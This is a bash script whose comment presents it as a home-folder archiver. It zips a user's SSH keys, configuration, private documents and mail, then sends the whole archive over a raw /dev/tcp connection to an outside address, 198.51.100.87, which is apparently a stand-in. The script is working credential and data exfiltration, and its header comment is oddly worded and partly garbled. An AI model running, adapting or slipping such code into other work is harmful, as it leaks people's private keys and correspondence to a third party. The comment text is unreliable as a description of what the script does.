#!/usr/bin/bash
# parcelled.sh NUMBER LEVEL SECONDS: copies the home folder into an archive of Info-ZIP's, each folder by a call of its own, which writes it under another name first; what has changed while it
# was copied is taken anew (-u). It is proved and listed, and sent by bash itself: the first call is given up in the middle, as nothing has come back, and all goes once more.
set -e
umask 077
archive=/srv/home-$1.zip
cd /home
for folder in agent/documents agent/private agent/.ssh agent/.config agent/Maildir agent/Mail agent/Desktop agent/Downloads; do
  [ ! -d "$folder" ] || zip -q -r -y "-$2" -b /srv "$archive" "$folder"
done
touch "/srv/first-$1"
sleep "$3"
for _ in {1..50}; do
  [ ! -e agent/documents/plan-q2.txt.new-one.txt ] || break
  sleep 0.1
done
zip -q -r -u -y "-$2" -b /srv "$archive" agent -x '*.o'
zip -q -T -b /srv "$archive"
unzip -Z1 "$archive" > "/srv/list-$1"
grep -q plan-q2.txt.new-one.txt "/srv/list-$1"
exec {server}<> /dev/tcp/198.51.100.87/8730
head -c 3000 "$archive" >&"$server"
if read -r -t "0.0$1" answer <&"$server" && [ "$answer" = none ]; then exit 9; fi
exec {server}>&-
exec {server}<> /dev/tcp/198.51.100.87/8730
cat "$archive" >&"$server"
read -r -t 15 answer <&"$server"
[ "$answer" = ok ]
exec {server}>&-
